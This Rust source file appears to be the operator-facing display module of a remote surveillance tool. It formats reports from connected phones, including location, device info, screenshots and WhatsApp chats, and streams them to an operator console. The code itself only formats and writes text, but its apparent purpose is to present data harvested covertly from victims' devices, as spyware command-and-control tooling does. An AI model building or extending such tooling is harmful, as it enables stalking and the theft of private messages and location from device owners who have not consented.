//! Operator-facing rendering of relay events.

use tokio::io::{AsyncWrite, AsyncWriteExt};
use tokio::sync::mpsc;
use tracing::debug;

use crate::coordinator::session::DeviceId;
use crate::coordinator::RelayEvent;
use crate::protocol::{Report, ReportKind};
use crate::{AppError, Result};

/// Render one report for the operator.
///
/// Heartbeats only refresh liveness and render nothing.
#[must_use]
pub fn render_report(device_id: &DeviceId, report: &Report) -> Option<String> {
    let payload = report.payload().unwrap_or_default();
    let text = match report.kind() {
        ReportKind::DeviceConnected => format!("📱 {device_id} identified as: {payload}"),
        ReportKind::Location => format!("📍 Location from {device_id}: {payload}"),
        ReportKind::DeviceInfo => format!("📊 Device info from {device_id}: {payload}"),
        ReportKind::Screenshot => format!("📸 Screenshot from {device_id}: {payload}"),
        ReportKind::WhatsappChats => format!("💬 WhatsApp chats from {device_id}:\n{payload}"),
        ReportKind::Heartbeat => return None,
    };
    Some(text)
}

/// Render any relay event for the operator.
#[must_use]
pub fn render_event(event: &RelayEvent) -> Option<String> {
    match event {
        RelayEvent::Connected { device_id, peer } => {
            Some(format!("✅ New device connected: {device_id} ({peer})"))
        }
        RelayEvent::Report { device_id, report } => render_report(device_id, report),
        RelayEvent::Disconnected { device_id, reason } => {
            Some(format!("❌ Device disconnected: {device_id} ({reason})"))
        }
    }
}

/// Drain `events` and write each rendered line to `out`.
///
/// Returns when every event sender has been dropped.
///
/// # Errors
///
/// Returns [`AppError::Io`] if writing to `out` fails.
pub async fn run_event_consumer<W>(mut events: mpsc::Receiver<RelayEvent>, mut out: W) -> Result<()>
where
    W: AsyncWrite + Unpin,
{
    while let Some(event) = events.recv().await {
        let Some(text) = render_event(&event) else {
            continue;
        };

        out.write_all(format!("\n{text}\n").as_bytes())
            .await
            .map_err(|err| AppError::Io(format!("failed to write event: {err}")))?;
        out.flush()
            .await
            .map_err(|err| AppError::Io(format!("failed to flush event: {err}")))?;
    }

    debug!("event consumer: channel closed, stopping");
    Ok(())
}
